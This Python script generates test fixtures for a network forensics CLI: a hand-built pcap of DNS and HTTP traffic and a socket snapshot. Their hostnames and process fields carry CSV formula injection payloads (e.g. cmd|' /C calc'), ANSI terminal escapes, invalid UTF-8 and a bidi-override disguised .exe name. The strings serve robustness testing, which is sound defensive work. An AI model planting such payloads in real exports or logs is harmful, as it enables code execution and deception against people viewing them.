#!/usr/bin/env python3
"""Write hostile-strings.pcap: DNS queries/answers and HTTP requests whose names carry
spreadsheet formulas, ANSI escapes, a newline, invalid UTF-8 and a bidi override; and
hostile-snapshot.jsonl, a socket snapshot owning those HTTP connections whose process name,
exe, command line and user are just as hostile.

Every byte is written here by hand (no packet library), so the capture is reproducible:
    python3 testdata/hostile/make-hostile.py   # rewrites testdata/hostile/hostile-strings.pcap
The same HOSTILE list is repeated in netforensic-cli/tests/robust_hostile.rs.
"""
import json
import os
import struct

HOSTILE = [
    b'=HYPERLINK("http://x.test/?"&A1,"click")',
    b"+cmd|' /C calc'!A0",
    b"@SUM(1+1)*cmd|' /C calc'!A0",
    b"-2+3+cmd",
    b"\x1b[31mred\x1b]0;title\x07",
    b"new\nline",
    b"bad\xff\xfeutf8",
    b"\xe2\x80\xaegpj.exe",
]

# The process owning every HTTP connection (also in robust_hostile.rs).
PROCESS = {
    "process": "\x1b]0;pwned\x07evil\u202egpj.exe",
    "exe": "=cmd|' /C calc'!A0",
    "cmdline": "@SUM(1+1)\nsecond line\ttab",
    "user": "+user",
}

CLIENT = bytes([10, 0, 0, 2])
RESOLVER = bytes([10, 0, 0, 1])
T0 = 1_700_000_000  # capture time base (seconds)


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ipv4(src, dst, proto, payload):
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 0, 0x4000, 64, proto, 0, src, dst)
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return header + payload


def ethernet(ip):
    return b"\x02\0\0\0\0\x01" + b"\x02\0\0\0\0\x02" + b"\x08\x00" + ip


def udp(src, dst, sport, dport, payload):
    length = 8 + len(payload)
    pseudo = src + dst + struct.pack("!BBH", 0, 17, length)
    header = struct.pack("!HHHH", sport, dport, length, 0)
    csum = checksum(pseudo + header + payload) or 0xFFFF
    return ipv4(src, dst, 17, struct.pack("!HHHH", sport, dport, length, csum) + payload)


def tcp(src, dst, sport, dport, seq, ack, flags, payload=b""):
    header = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 65535, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(header) + len(payload))
    csum = checksum(pseudo + header + payload)
    header = header[:16] + struct.pack("!H", csum) + header[18:]
    return ipv4(src, dst, 6, header + payload)


def name(*labels):
    return b"".join(bytes([len(l)]) + l for l in labels) + b"\0"


def dns_query(txid, qname):
    return struct.pack("!HHHHHH", txid, 0x0100, 1, 0, 0, 0) + qname + struct.pack("!HH", 1, 1)


def dns_response(txid, qname, target, addr):
    answers = qname + struct.pack("!HHIH", 5, 1, 300, len(target)) + target
    answers += target + struct.pack("!HHIH", 1, 1, 300, 4) + addr
    return struct.pack("!HHHHHH", txid, 0x8180, 1, 2, 0, 0) + qname + struct.pack("!HH", 1, 1) + answers


def main():
    packets = []  # (seconds offset, frame)
    t = 0.0
    for i, hostile in enumerate(HOSTILE):
        server = bytes([192, 0, 2, 10 + i])
        qname = name(hostile, b"example")
        target = name(hostile, b"cdn", b"example")
        sport = 40000 + i
        txid = 0x1000 + i
        packets.append((t, ethernet(udp(CLIENT, RESOLVER, sport, 53, dns_query(txid, qname)))))
        packets.append((t + 0.01, ethernet(udp(RESOLVER, CLIENT, 53, sport, dns_response(txid, qname, target, server)))))
        cport = 50000 + i
        request = b"GET / HTTP/1.1\r\nHost: " + hostile + b"\r\nUser-Agent: t\r\n\r\n"
        packets.append((t + 0.02, ethernet(tcp(CLIENT, server, cport, 80, 1000, 0, 0x02))))
        packets.append((t + 0.03, ethernet(tcp(server, CLIENT, 80, cport, 5000, 1001, 0x12))))
        packets.append((t + 0.04, ethernet(tcp(CLIENT, server, cport, 80, 1001, 5001, 0x10))))
        packets.append((t + 0.05, ethernet(tcp(CLIENT, server, cport, 80, 1001, 5001, 0x18, request))))
        packets.append((t + 0.06, ethernet(tcp(server, CLIENT, 80, cport, 5001, 1001 + len(request), 0x10))))
        t += 1.0
    out = bytearray(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1))
    for offset, frame in packets:
        micros = round(offset * 1_000_000)
        out += struct.pack("<IIII", T0 + micros // 1_000_000, micros % 1_000_000, len(frame), len(frame))
        out += frame
    here = os.path.dirname(os.path.abspath(__file__))
    with open(os.path.join(here, "hostile-strings.pcap"), "wb") as f:
        f.write(out)
    sockets = [
        {"proto": "tcp", "local_addr": "10.0.0.2", "local_port": 50000 + i,
         "remote_addr": f"192.0.2.{10 + i}", "remote_port": 80, "state": "ESTABLISHED",
         "pid": 31337, **PROCESS}
        for i in range(len(HOSTILE))
    ]
    snapshot = {"format": "netforensic-sockets", "version": 1, "taken_at": T0 + 3.0,
                "host": "examined", "os": "linux", "sockets": sockets}
    with open(os.path.join(here, "hostile-snapshot.jsonl"), "w") as f:
        f.write(json.dumps(snapshot) + "\n")


if __name__ == "__main__":
    main()
